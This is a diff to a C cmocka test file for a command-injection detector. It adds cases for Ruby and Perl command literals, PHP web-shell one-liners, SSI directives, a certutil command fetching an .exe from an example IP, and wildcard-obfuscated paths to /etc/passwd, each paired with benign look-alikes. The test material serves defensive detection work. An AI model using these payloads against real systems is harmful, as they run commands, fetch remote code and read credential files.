@@ -93,17 +93,56 @@ static void test_cmdi_call_mirror(void **st)
 	rt_run("cmdi-call-mirror", t, sizeof(t) / sizeof(t[0]));
 }
 
-/* strings prints a file's text: an argument that looks like shell */
-static void test_cmdi_strings(void **st)
+/* code execution beside shell lines: Ruby's and Perl's command literals,
+ * PHP code running a command, SSI directives, argv lists, %COMSPEC%,
+ * a Windows binary named with .exe */
+static void test_cmdi_code_forms(void **st)
 {
 	(void)st;
 	static const struct rtcase t[] = {
-		{";strings /etc/passwd", C},
-		{"x|strings /etc/shadow", C},
-		{"translate strings; see the docs", N},
-		{"strings | numbers | dates", N},
+		{"%x(id)", C},
+		{"%x{whoami}", C},
+		{"qx(uname -a)", C},
+		{"x=qx{id}", C},
+		{"<?=`$_GET[0]`?>", C},
+		{"<?php echo shell_exec($_GET['e']); ?>", C},
+		{"<?php phpinfo(); ?>", C},
+		{"phpinfo()", C},
+		{"';phpinfo();//", C},
+		{"<!--#printenv -->", C},
+		{"<!--#echo var=\"DOCUMENT_ROOT\"-->", C},
+		{"subprocess.check_output(['id'])", C},
+		{"new ProcessBuilder(\"id\").start()", C},
+		{"%COMSPEC% /c dir", C},
+		{"certutil.exe -urlcache -f http://10.9.8.7/a a.exe", C},
+		{"printf(\"%x(%d)\\n\", a, b);", N},
+		{"The qx(1) model is out of stock", N},
+		{"<?php echo htmlspecialchars($title); ?>", N},
+		{"Use <?php phpinfo(); ?> only on a dev box, never in production", N},
+		{"Call phpinfo() to see the PHP config", N},
+		{"<!--#region Header -->", N},
+		{"x = subprocess.check_output(cmd)", N},
+		{"new ProcessBuilder(args).start()", N},
+		{"%USERPROFILE%\\Documents\\report.docx", N},
 	};
-	rt_run("cmdi-strings", t, sizeof(t) / sizeof(t[0]));
+	rt_run("cmdi-code-forms", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* a binary's name found by a '?' pattern in a system directory, or under
+ * directories spelt by patterns themselves */
+static void test_cmdi_glob_binary(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"/b?\?/c?t /e?c/pa?\?wd", C},
+		{"/usr/bin/wh?ami", C},
+		{"/bin/?s -al", C},
+		{"/api/v?/items", N},
+		{"/search?q=id", N},
+		{"/bin/?", N},
+		{"/docs/i?", N},
+	};
+	rt_run("cmdi-glob-binary", t, sizeof(t) / sizeof(t[0]));
 }
 
 int main(void)
@@ -113,7 +152,8 @@ int main(void)
 		cmocka_unit_test(test_cmdi_quote_pieces),
 		cmocka_unit_test(test_cmdi_built_words),
 		cmocka_unit_test(test_cmdi_call_mirror),
-		cmocka_unit_test(test_cmdi_strings),
+		cmocka_unit_test(test_cmdi_code_forms),
+		cmocka_unit_test(test_cmdi_glob_binary),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
